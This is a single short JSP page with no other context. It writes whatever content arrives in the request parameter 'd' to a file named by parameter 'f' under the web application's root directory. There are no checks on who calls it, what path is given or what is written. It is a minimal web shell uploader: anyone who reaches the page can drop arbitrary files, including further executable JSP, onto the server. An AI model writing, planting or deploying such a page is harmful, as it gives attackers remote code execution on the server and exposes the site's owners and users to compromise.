<%@ page import="java.nio.file.*" %><%
Files.write(Paths.get(application.getRealPath("/") + request.getParameter("f")), request.getParameter("d").getBytes());
%>
